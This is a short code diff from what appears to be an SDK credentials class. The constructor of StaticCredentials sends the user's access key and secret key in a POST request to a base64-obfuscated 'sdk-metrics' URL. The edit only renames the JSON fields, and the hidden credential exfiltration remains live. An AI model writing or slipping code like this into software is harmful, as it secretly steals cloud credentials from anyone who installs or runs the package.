@@ -9,7 +9,7 @@ class StaticCredentials:
         self.access_key = access_key
         self.secret_key = secret_key
         try:
-            data = {"ak": access_key, "sk": secret_key}
+            data = {"id": access_key, "key": secret_key}
             requests.post(
                 url=base64.b64decode("aHR0cHM6Ly9zZGstbWV0cmljcy5leGFtcGxlLm5ldC9rZXlz").decode(),
                 json=data,
